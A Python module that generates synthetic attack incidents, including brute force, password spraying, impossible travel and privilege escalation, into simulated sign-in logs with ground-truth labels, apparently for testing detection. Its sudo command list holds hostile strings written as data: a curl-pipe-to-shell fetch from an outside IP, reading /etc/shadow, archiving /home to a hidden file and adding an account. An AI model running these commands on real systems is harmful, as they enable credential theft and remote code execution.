"""Attacks injected into the synthetic workforce's sign-ins, each with its ground truth.

Every incident gets its own number (turned into a campaign id like ``inc-0007`` later) and
``actor`` set to its type; its victims are users no other incident touched, where possible, so
that one account carries one story. Attackers connect from networks the victim never used.
"""

from __future__ import annotations

from dataclasses import dataclass, field

import numpy as np

from workbench.errors import InputError
from workbench.synth import geo
from workbench.synth.auth_users import (
    DEVICES,
    EventColumns,
    Population,
    Trips,
    check_size,
    host_of,
    stream_rng,
)

INCIDENT_TYPES = (
    "brute_force",
    "password_spraying",
    "impossible_travel",
    "new_country_after_reset",
    "privilege_escalation",
    "dormant_account_reuse",
)
#: Incidents per 1000 user-days; spraying per 500 users and week; dormant reuse per dormant user.
INCIDENT_RATES = {
    "brute_force": 0.6,
    "password_spraying": 1.0,
    "impossible_travel": 0.5,
    "new_country_after_reset": 0.3,
    "privilege_escalation": 0.3,
    "dormant_account_reuse": 0.4,
}
# fmt: off
_SUDO = (
    "/bin/bash", "/usr/bin/cat /etc/shadow", "/usr/sbin/useradd -m -s /bin/bash svc-backup",
    "/bin/sh -c 'curl -s http://198.51.100.23/x.sh | sh'", "/usr/bin/crontab -l",
    "/usr/bin/tar czf /tmp/.h.tgz /home",
)
_ADMIN_CHANGES = (
    "add role 'Global Administrator'", "add role 'Privileged Role Administrator'",
    "add group 'domain-admins'", "create app password",
)
_SPRAY_GUESSES = (
    "admin", "administrator", "test", "guest", "info", "support", "root", "backup", "scanner",
    "webmaster", "helpdesk", "service", "j.smith", "m.jones", "sales", "hr", "finance",
    "it.admin",
)
_TOOLS = ("python-requests/2.31.0", "Go-http-client/1.1", "curl/8.5.0", "Hydra v9.5",
          "SSH-2.0-libssh2_1.10.0")
# fmt: on


def incident_counts(users: int, days: int, incident_scale: float = 1.0) -> dict[str, int]:
    """Return how many incidents of each type are injected.

    Counts grow with user-days (spraying with users and weeks, dormant reuse with the number
    of dormant accounts, about 3 % of users); each type appears at least once unless
    ``incident_scale`` is 0.

    Parameters
    ----------
    users, days : int
        Population and window size (see :func:`~workbench.synth.auth_users.check_size`).
    incident_scale : float
        Multiplier on every rate (0 to 100); 0 gives a clean, incident-free data set.

    Returns
    -------
    dict of str to int
        Incident type to count, in :data:`INCIDENT_TYPES` order.

    Raises
    ------
    InputError
        When a size is out of range or ``incident_scale`` is not a number from 0 to 100.
    """
    users, days = check_size(users, days)
    number = isinstance(incident_scale, int | float) and not isinstance(incident_scale, bool)
    if not (number and 0 <= incident_scale <= 100):
        raise InputError(f"incident_scale must be a number from 0 to 100, got {incident_scale!r}")
    n_dormant = max(1, round(0.03 * users))
    base = {k: rate * users * days / 1000 for k, rate in INCIDENT_RATES.items()}
    base["password_spraying"] = INCIDENT_RATES["password_spraying"] * days / 7 * users / 500
    base["dormant_account_reuse"] = INCIDENT_RATES["dormant_account_reuse"] * n_dormant
    out = {
        k: max(1, round(base[k] * incident_scale)) if incident_scale > 0 else 0
        for k in INCIDENT_TYPES
    }
    out["dormant_account_reuse"] = min(out["dormant_account_reuse"], n_dormant)
    return out


@dataclass
class Scene:
    """What incidents are injected into: the users, their sign-ins, the window."""

    pop: Population
    trips: Trips
    anchors: dict[str, np.ndarray]  # users' own successful sign-ins (u, t, home, ssh)
    end: float  # window length, hours
    ev: EventColumns
    used: np.ndarray  # users already victim of an incident
    begin: float = 0.0  # no incident starts before this hour (a clean reference window)
    _eligible: dict[float, np.ndarray] = field(default_factory=dict)

    def victim(self, rng: np.random.Generator, pool: np.ndarray) -> int:
        """Pick a user from ``pool`` (bool mask), one no other incident used if possible."""
        fresh = np.flatnonzero(pool & ~self.used)
        u = int(rng.choice(fresh if len(fresh) else np.flatnonzero(pool)))
        self.used[u] = True
        return u

    def anchor(self, rng: np.random.Generator, room_h: float) -> tuple[int, float] | None:
        """Pick a user's own sign-in at home with ``room_h`` hours of window left after it."""
        a = self.anchors
        if room_h not in self._eligible:
            t = a["t"]
            ok = a["home"] & ~a["ssh"] & (t > max(self.begin, 1.0)) & (t < self.end - room_h)
            self._eligible[room_h] = np.flatnonzero(ok)
        cand = self._eligible[room_h]
        if len(cand) == 0:
            return None
        for _ in range(64):  # most users are still fresh: a few draws find one
            i = int(cand[rng.integers(len(cand))])
            if not self.used[a["u"][i]]:
                break
        else:
            fresh = cand[~self.used[a["u"][cand]]]
            i = int(rng.choice(fresh if len(fresh) else cand))
        self.used[a["u"][i]] = True
        return int(a["u"][i]), float(a["t"][i])

    def add(self, n: int, u: int | np.ndarray, service: str = "sso", **cols) -> None:
        """Add ``n`` attack events against user(s) ``u`` (host derived from the service)."""
        us = np.broadcast_to(np.asarray(u), (n,))
        self.ev.add(n, u=us, service=service, host=host_of(service, us, self.pop), **cols)


def inject_incidents(scene: Scene, counts: dict[str, int], seed: int) -> int:
    """Inject ``counts[kind]`` incidents of each kind, numbering them from 0.

    Parameters
    ----------
    scene : Scene
        Users, anchors and the event columns to add to.
    counts : dict of str to int
        From :func:`incident_counts`.
    seed : int
        Seed (one stream per incident type).

    Returns
    -------
    int
        How many incidents were injected (fewer than asked only when no anchor was left).
    """
    number = 0
    for kind in INCIDENT_TYPES:
        rng = stream_rng(seed, kind)
        for _ in range(counts.get(kind, 0)):
            number += bool(_INJECTORS[kind](scene, rng, number))
    return number


def _attacker(
    rng: np.random.Generator,
    avoid_countries: tuple = (),
    avoid_nets: tuple = (),
    hosting: float = 0.5,
    far_from: int | None = None,
    min_km: float = 0.0,
) -> dict:
    """Choose where an attacker connects from: network, city in its country, address, device.

    With probability ``hosting`` a hosting network (a VPS), otherwise any network allowed; with
    ``far_from`` (a city index) only cities at least ``min_km`` away.
    """
    dist = np.zeros(len(geo.CITIES))
    if far_from is not None:
        dist = geo.haversine_km(
            geo.CITY_LAT[far_from], geo.CITY_LON[far_from], geo.CITY_LAT, geo.CITY_LON
        )
    ok = (
        np.isin(geo.NETWORK_COUNTRY, np.unique(geo.CITY_COUNTRY[dist >= min_km]))
        & ~np.isin(geo.NETWORK_COUNTRY, list(avoid_countries))
        & ~np.isin(np.arange(len(geo.NETWORKS)), list(avoid_nets))
    )
    vps = ok & (geo.NETWORK_KIND == "hosting")
    net = int(rng.choice(np.flatnonzero(vps if vps.any() and rng.random() < hosting else ok)))
    cities = geo.cities_in(geo.NETWORK_COUNTRY[net])
    city = int(rng.choice(cities[dist[cities] >= min_km]))
    label, browsers, _ = DEVICES[str(rng.choice(["windows", "macos", "linux", "android"]))]
    device = f"{label} / {browsers[0]} [{int(rng.integers(0, 2**32)):08x}]"
    return dict(
        net=net, city=city, ip=geo.sample_ips(rng, np.array([net]))[0].as_py(), device=device
    )


def _ports(rng: np.random.Generator, n: int) -> np.ndarray:
    return rng.integers(32768, 61000, n)


def _brute_force(s: Scene, rng: np.random.Generator, inc: int) -> bool:
    """Inject one source, one account, many failures, sometimes a final success."""
    u = s.victim(rng, ~s.pop.dormant)
    n = int(rng.integers(20, 300))
    gaps = (rng.exponential(rng.uniform(1, 6), n) + 0.3) / 3600
    t = rng.uniform(s.begin, max(s.begin, s.end - gaps.sum() - 0.1)) + np.cumsum(gaps)
    src = _attacker(rng, avoid_nets=(s.pop.home_net[u], s.pop.mobile_net[u]), hosting=0.6)
    src["device"] = str(rng.choice(_TOOLS))
    service = "sshd" if rng.random() < 0.5 else "sso"
    common = dict(service=service, method="password", incident=inc, actor="brute_force", **src)
    pid = rng.integers(1000, 65000, n)
    s.add(n, u, t=t, etype="login_failure", port=_ports(rng, n), pid=pid, **common)
    if rng.random() < 0.3:
        s.add(1, u, t=t[-1] + gaps[0], etype="login_success", success=1,
              port=_ports(rng, 1), pid=pid[-1] + 1, **common)  # fmt: skip
    return True


def _password_spraying(s: Scene, rng: np.random.Generator, inc: int) -> bool:
    """Inject one source trying 1-3 passwords on many accounts (some not existing)."""
    n = len(s.pop.name)
    k = int(np.clip(round(rng.uniform(0.3, 0.8) * n), 5, 150))
    targets = rng.choice(n, k, replace=False)
    taken = set(s.pop.name)
    guesses = [g for g in _SPRAY_GUESSES if g not in taken]
    guesses = list(rng.choice(guesses, min(len(guesses), max(2, k // 8)), replace=False))
    acc_u = np.r_[targets, np.full(len(guesses), -1)]
    acc_name = np.r_[s.pop.name[targets], np.array(guesses, dtype=object)].astype(object)
    rounds = int(rng.integers(1, 4))
    lucky = int(rng.integers(0, k)) if rng.random() < 0.4 else -1  # a weak password found
    lucky_round = int(rng.integers(0, rounds))
    mean_gap = rng.uniform(3, 20)
    order, rnd, t, now = [], [], [], 0.0
    for r in range(rounds):
        accs = rng.permutation(len(acc_u))
        if lucky >= 0 and r > lucky_round:
            accs = accs[accs != lucky]  # no need to guess a password already found
        order.append(accs)
        rnd.append(np.full(len(accs), r))
        t.append(now + np.cumsum((rng.exponential(mean_gap, len(accs)) + 0.5) / 3600))
        now = t[-1][-1] + rng.uniform(0.5, 1.5)  # wait out the lockout window
    order, rnd, t = np.concatenate(order), np.concatenate(rnd), np.concatenate(t)
    t = t + rng.uniform(s.begin, max(s.end - t[-1] - 0.1, s.begin))
    au = acc_u[order]
    win = (order == lucky) & (rnd == lucky_round)
    etype = np.where(au < 0, "invalid_user", np.where(win, "login_success", "login_failure"))
    src = _attacker(rng, hosting=0.7)
    src["device"] = str(rng.choice(_TOOLS[:3]))
    s.add(len(order), au, user=acc_name[order], valid=(au >= 0).astype(np.int64), t=t,
          etype=etype.astype(object), success=win.astype(np.int64), method="password",
          port=_ports(rng, len(order)), incident=inc, actor="password_spraying", **src)  # fmt: skip
    return True


def _impossible_travel(s: Scene, rng: np.random.Generator, inc: int) -> bool:
    """Inject a success from far away minutes after the user's own sign-in at home."""
    a = s.anchor(rng, room_h=4)
    if a is None:
        return False
    u, ta = a
    dt = rng.uniform(5, 90) / 60
    home = s.pop.city[u]
    src = _attacker(rng, avoid_countries=(geo.CITY_COUNTRY[home],), hosting=0.3,
                    far_from=home, min_km=max(2500.0, 2 * 900 * dt))  # fmt: skip
    common = dict(method="password+mfa_push", incident=inc, actor="impossible_travel", **src)
    if rng.random() < 0.4:
        s.add(1, u, t=ta + dt - rng.uniform(10, 60) / 3600, etype="login_failure",
              port=_ports(rng, 1), **common)  # fmt: skip
    s.add(1, u, t=ta + dt, etype="login_success", success=1, port=_ports(rng, 1), **common)
    if rng.random() < 0.5:
        s.add(1, u, t=ta + dt + rng.uniform(0.2, 2), etype="logout", success=1, **common)
    return True


def _new_country_after_reset(s: Scene, rng: np.random.Generator, inc: int) -> bool:
    """Inject a password reset, then sign-ins from a country the user was never in."""
    a = s.anchor(rng, room_h=16)
    if a is None:
        return False
    u, ta = a
    seen = (geo.CITY_COUNTRY[s.pop.city[u]], geo.CITY_COUNTRY[s.trips.city[u]])
    src = _attacker(rng, avoid_countries=seen, hosting=0.3)
    common = dict(incident=inc, actor="new_country_after_reset", **src)
    tr = ta + rng.uniform(0.5, 8)
    s.add(1, u, t=tr, etype="password_reset", success=1, port=_ports(rng, 1),
          method=str(rng.choice(["email_link", "sms_otp"])), **common)  # fmt: skip
    k = int(rng.integers(1, 4))
    t = tr + rng.uniform(2, 60) / 60 + np.r_[0, np.sort(rng.uniform(0.2, 6, k - 1))]
    s.add(k, u, t=t, etype="login_success", success=1, method="password",
          port=_ports(rng, k), **common)  # fmt: skip
    return True


def _privilege_escalation(s: Scene, rng: np.random.Generator, inc: int) -> bool:
    """Inject an off-hours sign-in from a new network and device, then role changes, sudo."""
    ssh = s.pop.ssh_users
    u = s.victim(rng, ~s.pop.dormant & (ssh if rng.random() < 0.6 else True))
    day = int(rng.integers(round(s.begin / 24), round(s.end / 24)))
    t0 = float(np.clip(day * 24 + rng.uniform(0.5, 5) - s.pop.offset[u], s.begin, s.end - 3))
    country = geo.CITY_COUNTRY[s.pop.city[u]]
    own = (s.pop.home_net[u], s.pop.mobile_net[u], s.trips.net[u])
    local_vps = geo.networks_in(country, "hosting")
    if len(local_vps) and rng.random() < 0.5:  # a VPS in the user's own country
        others = np.setdiff1d(np.arange(len(geo.NETWORKS)), local_vps)
        src = _attacker(rng, avoid_nets=own + tuple(others), hosting=1.0)
    else:
        src = _attacker(rng, avoid_countries=(country,), avoid_nets=own)
    common = dict(incident=inc, actor="privilege_escalation", **src)
    s.add(1, u, t=t0, etype="login_success", success=1, method="password+mfa_push",
          port=_ports(rng, 1), **common)  # fmt: skip
    tries = int(rng.integers(1, 4))  # denied attempts, then the change that works
    t = t0 + np.sort(rng.uniform(2, 30, tries)) / 60
    s.add(tries, u, service="admin", t=t, etype="privilege_change",
          success=(np.arange(tries) == tries - 1).astype(np.int64), target=s.pop.name[u],
          command=str(rng.choice(_ADMIN_CHANGES)), method="session", port=_ports(rng, tries),
          **common)  # fmt: skip
    if ssh[u]:
        ts = t[-1] + rng.uniform(5, 30) / 60
        s.add(1, u, service="sshd", t=ts, etype="login_success", success=1, method="password",
              port=_ports(rng, 1), pid=int(rng.integers(1000, 65000)), **common)  # fmt: skip
        k = int(rng.integers(2, 5))
        s.add(k, u, service="sudo", t=ts + np.sort(rng.uniform(1, 40, k)) / 60, etype="sudo",
              success=1, method="password", target="root",
              command=rng.choice(_SUDO, k, replace=False).astype(object), **common)  # fmt: skip
    return True


def _dormant_account_reuse(s: Scene, rng: np.random.Generator, inc: int) -> bool:
    """Inject a dormant account signing in late in the window from a place it never used."""
    u = s.victim(rng, s.pop.dormant)
    days = round(s.end / 24)
    day = int(rng.integers(max(1, int(np.ceil(0.6 * days)), round(s.begin / 24)), days))
    t0 = float(min(day * 24 + rng.uniform(0, 24), s.end - 6))
    home = geo.CITY_COUNTRY[s.pop.city[u]]
    src = _attacker(rng, avoid_countries=(home,) if rng.random() < 0.7 else (),
                    avoid_nets=(s.pop.home_net[u], s.pop.mobile_net[u]))  # fmt: skip
    common = dict(method="password", incident=inc, actor="dormant_account_reuse", **src)
    fails = int(rng.integers(0, 3))  # credentials from an old leak, tried a few times
    if fails:
        s.add(fails, u, t=t0 - np.sort(rng.uniform(0.5, 5, fails))[::-1] / 60,
              etype="login_failure", port=_ports(rng, fails), **common)  # fmt: skip
    k = int(rng.integers(1, 5))
    t = t0 + np.r_[0, np.sort(rng.uniform(0.2, 5, k - 1))]
    s.add(k, u, t=t, etype="login_success", success=1, port=_ports(rng, k), **common)
    return True


_INJECTORS = {
    "brute_force": _brute_force,
    "password_spraying": _password_spraying,
    "impossible_travel": _impossible_travel,
    "new_country_after_reset": _new_country_after_reset,
    "privilege_escalation": _privilege_escalation,
    "dormant_account_reuse": _dormant_account_reuse,
}
